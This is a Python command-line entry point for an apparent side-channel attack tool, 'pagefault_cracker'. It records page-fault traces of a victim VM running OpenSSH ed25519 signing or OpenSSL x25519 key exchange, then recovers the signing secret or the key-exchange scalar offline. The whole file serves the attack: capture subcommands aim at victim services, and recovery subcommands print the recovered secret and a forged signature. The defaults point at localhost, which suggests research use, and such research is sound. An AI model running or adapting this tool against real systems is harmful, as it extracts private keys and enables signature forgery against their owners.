"""Main entry point: python -m pagefault_cracker"""

from __future__ import annotations

import argparse
import logging
import sys
import threading

from pagefault_cracker import __version__
from pagefault_cracker.analysis.ecdh_swaps import bits_to_scalar, parse_openssl_secret
from pagefault_cracker.analysis.recovery import EcdhRecovery, EdDSARecovery, load_debug_seed
from pagefault_cracker.core.attack_config import load_ecdh_config, load_eddsa_config, save_config
from pagefault_cracker.core.capture import EdDSACapture, locate_target_pages
from pagefault_cracker.core.ecdh_capture import EcdhCapture
from pagefault_cracker.core.recorder import TraceRecorder
from pagefault_cracker.core.trace import load_trace, save_trace
from pagefault_cracker.core.tracker import CheckedTracker, load_tracker
from pagefault_cracker.core.triggers import parse_transcript, trigger_from_uri
from pagefault_cracker.utils.constants import ECDH_IGNORE_CYCLES
from pagefault_cracker.utils.errors import PageFaultCrackerError, TriggerError
from pagefault_cracker.utils.types import CapturePlan, RecorderConfig, TrackMode

logger = logging.getLogger("pagefault_cracker")

LOG_FORMAT = "%(asctime)s - %(levelname)s - %(message)s"

TRACKING_MODES = {
    "access": TrackMode.ACCESS,
    "execute": TrackMode.EXEC,
    "write": TrackMode.WRITE,
}


def gpa(value: str) -> int:
    """Parse a guest physical address given as any Python int literal."""
    return int(value, 0)


def format_gpa(value: int | None) -> str:
    return f"0x{value:x}" if value is not None else "not found"


def build_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(
        prog="pagefault-cracker",
        description="Recover EdDSA and X25519 secrets from page-fault side-channel traces",
    )
    parser.add_argument("--version", action="version", version=f"%(prog)s {__version__}")
    parser.add_argument("--debug", action="store_true", help="Verbose logging")

    sub = parser.add_subparsers(dest="command")

    def add_tracker_args(p: argparse.ArgumentParser) -> None:
        p.add_argument("--tracker", required=True, help="Tracker factory as 'module:callable'")
        p.add_argument(
            "--tracker-option", action="append", default=[], metavar="KEY=VALUE",
            help="Keyword argument for the tracker factory (repeatable)",
        )

    # capture-eddsa
    ce = sub.add_parser("capture-eddsa", help="Capture an OpenSSH ed25519 signing operation")
    add_tracker_args(ce)
    ce.add_argument("--exec-trace", default="pf-log.txt", help="Full execute trace used to find the toggle pages")
    ce.add_argument("--choose-t-gpa", type=gpa, help="Override the choose_t page")
    ce.add_argument("--fe64-gpa", type=gpa, help="Override the field arithmetic page")
    ce.add_argument("--trigger-uri", default="ssh://root@localhost:2223", help="Victim trigger URI")
    ce.add_argument("--out", default="attack-trace.txt", help="Attack trace output path")
    ce.add_argument("--config-out", default="attack-config.json", help="Attack config output path")
    ce.add_argument("--cpu", type=int, default=-1, help="CPU for cache flushes before memory reads")

    # capture-ecdh
    cx = sub.add_parser("capture-ecdh", help="Capture an OpenSSL x25519 key exchange")
    add_tracker_args(cx)
    cx.add_argument("--gpa1", type=gpa, required=True, help="Ladder page")
    cx.add_argument("--gpa2", type=gpa, required=True, help="Field arithmetic page")
    cx.add_argument("--trigger-uri", default="http://localhost:8080", help="Victim trigger URI")
    cx.add_argument("--out", default="attack-log.txt", help="Attack trace output path")
    cx.add_argument("--config-out", default="attack-config.json", help="Attack config output path")
    cx.add_argument("--ignore-cycles", type=int, default=ECDH_IGNORE_CYCLES)
    cx.add_argument("--tracking", choices=["access", "execute"], default="execute")
    cx.add_argument("--cpu", type=int, default=-1, help="CPU for cache flushes before memory reads")

    # record
    rec = sub.add_parser("record", help="Record fault traces of repeated victim runs")
    add_tracker_args(rec)
    rec.add_argument("--trigger-uri", default="http://localhost:8080", help="Victim trigger URI")
    rec.add_argument("--out", default="pf-log.txt", help="Trace output path")
    rec.add_argument("--iterations", type=int, default=1)
    rec.add_argument("--tracking", choices=sorted(TRACKING_MODES), default="access")
    rec.add_argument("--allow-list", help="File with one GPA per line; only these pages are tracked")
    rec.add_argument("--find-write", action="store_true", help="Also write-track to find buffers")
    rec.add_argument("--no-retrack", action="store_true", help="Do not re-arm faulted pages")
    rec.add_argument("--no-rip", action="store_true", help="Events carry no RIP; use retired instructions for progress")

    # recover-eddsa
    re_ = sub.add_parser("recover-eddsa", help="Recover the EdDSA signing secret offline")
    re_.add_argument("--config", default="attack-config.json", help="Attack config path")
    re_.add_argument("--trace", default="attack-trace.txt", help="Attack trace path")
    re_.add_argument("--specific-offset", type=gpa, help="Only consider this page offset")
    re_.add_argument("--debug-private-key", help="OpenSSH private key of the victim, for debugging")

    # recover-ecdh
    rx = sub.add_parser("recover-ecdh", help="Recover the x25519 scalar offline")
    rx.add_argument("--config", default="attack-config.json", help="Attack config path")
    rx.add_argument("--trace", default="attack-log.txt", help="Attack trace path")
    rx.add_argument("--specific-offset", type=gpa, help="Only consider this page offset")
    rx.add_argument("--public-key", help="Victim x25519 public key (hex)")
    rx.add_argument("--show-all", action="store_true", help="Print every key candidate")

    return parser


def open_tracker(args: argparse.Namespace) -> CheckedTracker:
    options = {}
    for item in args.tracker_option:
        key, sep, value = item.partition("=")
        if not sep:
            raise ValueError(f"tracker option must be KEY=VALUE, got {item!r}")
        options[key] = value
    return CheckedTracker(load_tracker(args.tracker, **options))


def read_gpa_list(path: str) -> tuple[int, ...]:
    with open(path, "r", encoding="utf-8") as f:
        return tuple(gpa(line.strip()) for line in f if line.strip())


def run_capture_eddsa(args: argparse.Namespace) -> int:
    if args.choose_t_gpa is not None and args.fe64_gpa is not None:
        choose_t, fe64 = args.choose_t_gpa, args.fe64_gpa
    else:
        choose_t, fe64 = locate_target_pages(load_trace(args.exec_trace).events)
    print(f"choose_t page: 0x{choose_t:x}  fe64 page: 0x{fe64:x}")

    trigger = trigger_from_uri(args.trigger_uri)
    tracker = open_tracker(args)
    try:
        capture = EdDSACapture(tracker, CapturePlan(choose_t_gpa=choose_t, fe64_gpa=fe64, cpu=args.cpu))
        result = capture.run(trigger, threading.Event())
    finally:
        tracker.close()

    save_trace(result.events, args.out)
    print(f"Captured events:     {len(result.events)}")
    print(f"Memory snapshots:    {sum(1 for e in result.events if e.has_access_data)}")
    print(f"Stack buffer page:   {format_gpa(result.stack_buf_gpa)}")
    print(f"Unexpected faults:   {result.desync_count}")
    print(f"Attack trace:        {args.out}")

    if result.trigger_error is not None:
        print("No signature captured, attack config not written")
        return 1
    try:
        transcript = parse_transcript(result.payload)
    except TriggerError as exc:
        logger.error("cannot decode the victim signature: %s", exc)
        print("No signature captured, attack config not written")
        return 1

    save_config(capture.attack_config(transcript), args.config_out)
    print(f"Signature type:      {transcript.signature_type}")
    return 0


def run_capture_ecdh(args: argparse.Namespace) -> int:
    trigger = trigger_from_uri(args.trigger_uri)
    tracker = open_tracker(args)
    with open(args.out, "w", encoding="utf-8") as out:
        try:
            capture = EcdhCapture(
                tracker,
                args.gpa1,
                args.gpa2,
                ignore_cycles=args.ignore_cycles,
                tracking_mode=TRACKING_MODES[args.tracking],
                cpu=args.cpu,
                sink=out,
            )
            result = capture.run(trigger, threading.Event())
        finally:
            tracker.close()
        out.write(result.payload.decode("utf-8", errors="replace"))

    save_config(capture.attack_config(), args.config_out)
    print(f"Captured events:     {len(result.events)}")
    print(f"Working buffer page: {format_gpa(result.stack_buf_gpa)}")
    return 1 if result.trigger_error is not None else 0


def run_record(args: argparse.Namespace) -> int:
    config = RecorderConfig(
        iterations=args.iterations,
        tracking_mode=TRACKING_MODES[args.tracking],
        allow_list=read_gpa_list(args.allow_list) if args.allow_list else (),
        find_write=args.find_write,
        retrack=not args.no_retrack,
        rip_mode=not args.no_rip,
    )
    trigger = trigger_from_uri(args.trigger_uri)
    tracker = open_tracker(args)
    with open(args.out, "w", encoding="utf-8") as out:
        try:
            written = TraceRecorder(tracker, trigger, out, config).record(threading.Event())
        finally:
            tracker.close()
    print(f"Recorded {written} events to {args.out}")
    return 0


def run_recover_eddsa(args: argparse.Namespace) -> int:
    config = load_eddsa_config(args.config)
    logger.info("signature type: %s", config.transcript.signature_type)
    logger.info(
        "attack config: choose_t 0x%x, fe64 0x%x, stack buffer 0x%x",
        config.choose_t_gpa, config.fe64_gpa, config.stack_buf_gpa,
    )
    seed = load_debug_seed(args.debug_private_key) if args.debug_private_key else None
    trace = load_trace(args.trace)
    print(f"Got {len(trace)} events")

    result = EdDSARecovery(config, args.specific_offset, seed).run(trace.events)

    print(f"Offsets scanned:     {result.offsets_scanned}")
    print(f"Offsets matching R:  {len(result.candidates)}")
    if not result.success:
        print("No candidate validated")
        return 1
    print(f"Offset:              {result.offset:03x}")
    print(f"Intermediate secret: {result.intermediate_secret.to_bytes(32, 'little').hex()}")
    print("(not the private key, but sufficient to sign arbitrary messages)")
    print(f"Forged signature over {result.forged_message!r}: {result.forged_signature.hex()}")
    return 0


def run_recover_ecdh(args: argparse.Namespace) -> int:
    config = load_ecdh_config(args.config)
    logger.info(
        "attack config: base 0x%x, fe64 0x%x, stack buffer 0x%x",
        config.base_gpa, config.fe64_gpa, config.stack_buf_gpa,
    )
    trace = load_trace(args.trace)
    print(f"Got {len(trace)} events")

    try:
        reference = parse_openssl_secret(trace.extra_lines)
    except PageFaultCrackerError as exc:
        logger.info("no ground truth in trace: %s", exc)
        reference = None
    public_key = bytes.fromhex(args.public_key) if args.public_key else None

    recovery = EcdhRecovery(config, args.specific_offset, reference, public_key)
    result = recovery.run(trace.events)

    print("Scalar candidates")
    for cand in result.scalars:
        if args.show_all or cand.valid:
            print(
                f"offset {cand.offset:03x}, guess for top swap bits = {cand.top_swap_guess}, "
                f"valid = {cand.valid}, mismatches = {cand.mismatches}, "
                f"scalar = {bits_to_scalar(cand.scalar_bits).hex()}"
            )
    if not recovery.has_reference:
        print("No reference key or public key given, nothing to validate against")
    print(f"Found correct scalar: {result.success}")
    if not result.success:
        print("No candidate validated")
        if result.reference_bits is not None:
            print(f"Correct scalar is {bits_to_scalar(result.reference_bits).hex()}")
        return 1
    return 0


COMMANDS = {
    "capture-eddsa": run_capture_eddsa,
    "capture-ecdh": run_capture_ecdh,
    "record": run_record,
    "recover-eddsa": run_recover_eddsa,
    "recover-ecdh": run_recover_ecdh,
}


def main(argv: list[str] | None = None) -> int:
    parser = build_parser()
    args = parser.parse_args(argv)
    if args.command == "capture-eddsa" and (args.choose_t_gpa is None) != (args.fe64_gpa is None):
        parser.error("--choose-t-gpa and --fe64-gpa must be given together")
    logging.basicConfig(level=logging.DEBUG if args.debug else logging.INFO, format=LOG_FORMAT)

    handler = COMMANDS.get(args.command)
    if handler is None:
        parser.print_help()
        return 2
    try:
        return handler(args)
    except (PageFaultCrackerError, OSError, ValueError) as exc:
        logger.error("%s failed: %s", args.command, exc)
        return 1


if __name__ == "__main__":
    sys.exit(main())
